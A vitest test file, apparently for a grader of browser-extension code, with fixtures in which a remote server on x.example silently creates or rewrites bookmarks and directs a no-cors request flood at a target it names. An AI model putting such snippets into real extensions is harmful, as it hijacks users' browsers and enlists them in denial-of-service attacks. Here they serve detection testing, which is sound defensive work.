import { expect, it } from 'vitest';
import { graded } from '../../testing/graded.ts';

const manifest = (description: string): object => ({ description, permissions: ['bookmarks', 'alarms', 'storage'] });
const onAlarm = (run: string): string =>
  `chrome.alarms.onAlarm.addListener(async () => { const all = await (await fetch('https://x.example/list')).json(); ${run} });`;

it.each([
  ['for (const one of all) chrome.bookmarks.create({ title: one.title, url: one.url });'],
  [
    'for (const mark of await chrome.bookmarks.search({})) if (all[mark.url]) chrome.bookmarks.update(mark.id, { url: all[mark.url] });',
  ],
])('a server puts bookmarks there: %s', async (run) => {
  expect(await graded({ background: onAlarm(run), manifest: manifest('A calm clock.') })).toBe('D');
  expect(await graded({ background: onAlarm(run), manifest: manifest('Syncs your bookmarks.') })).toMatch(/^[AB]/);
});

it('a server names whom requests are to burden', async () => {
  const flood = onAlarm(
    "for (let n = 0; n < all.count; n++) fetch(all.target + '?' + Math.random(), { method: all.verb, mode: 'no-cors' }).catch(() => {});",
  );
  expect(await graded({ background: flood })).toBe('D');
  const asked = onAlarm("const r = await fetch(all.next + '?' + Date.now()); show(await r.json());");
  expect(await graded({ background: asked })).toMatch(/^[AB]/);
});
